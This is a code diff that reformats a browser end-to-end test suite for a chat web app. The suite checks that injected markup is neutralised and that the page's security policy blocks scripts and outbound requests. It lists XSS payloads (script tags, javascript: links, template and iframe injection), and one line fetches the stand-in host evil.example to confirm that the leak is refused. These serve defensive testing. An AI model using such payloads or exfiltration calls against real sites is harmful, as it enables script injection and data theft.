@@ -14,7 +14,7 @@ const attacks = [
   "data:text/html,<script>window.caught=1</script>",
   "</textarea></script><script>window.caught=1</script>",
   "{{constructor.constructor('window.caught=1')()}}",
-  "<a href=\"javascript:window.caught=1\">click</a>",
+  '<a href="javascript:window.caught=1">click</a>',
   "&lt;img src=x onerror=window.caught=1&gt;",
   "<style>*{display:none}</style>",
   "<iframe srcdoc='<script>parent.caught=1</script>'></iframe>",
@@ -24,7 +24,9 @@ const attacks = [
 function intruders(app: App): Promise<string[]> {
   return app.page.evaluate(() => {
     const foreign = "#app :is(script, img[src='x'], iframe, style, object, embed, svg[onload], form[action])";
-    const links = [...document.querySelectorAll("#app a")].filter((link) => !/^https?:$/.test((link as HTMLAnchorElement).protocol));
+    const links = [...document.querySelectorAll("#app a")].filter(
+      (link) => !/^https?:$/.test((link as HTMLAnchorElement).protocol),
+    );
     return [...document.querySelectorAll(foreign), ...links].map((element) => element.outerHTML);
   });
 }
@@ -77,7 +79,11 @@ story("text that turns the reading direction around or is all one word breaks no
   await ana.log.getByText("مرحبا بالعالم").waitFor();
   expect(await ana.overflow()).toBe(0);
   expect(await ana.log.evaluate((log) => log.scrollWidth - log.clientWidth)).toBe(0);
-  const direction = (text: string) => ana.log.getByText(text).first().evaluate((element) => getComputedStyle(element.closest("[dir]") ?? element).direction);
+  const direction = (text: string) =>
+    ana.log
+      .getByText(text)
+      .first()
+      .evaluate((element) => getComputedStyle(element.closest("[dir]") ?? element).direction);
   expect(await direction("مرحبا بالعالم")).toBe("rtl");
   await ana.send("left to right");
   await ana.message("left to right").waitFor();
@@ -128,6 +134,11 @@ story("the page's policy stops scripts that somebody got into it, by whatever wa
     });
   });
   expect(caught).toBe(false);
-  const leak = await ana.page.evaluate(() => fetch("https://evil.example/").then(() => "sent", () => "refused"));
+  const leak = await ana.page.evaluate(() =>
+    fetch("https://evil.example/").then(
+      () => "sent",
+      () => "refused",
+    ),
+  );
   expect(leak).toBe("refused");
 });
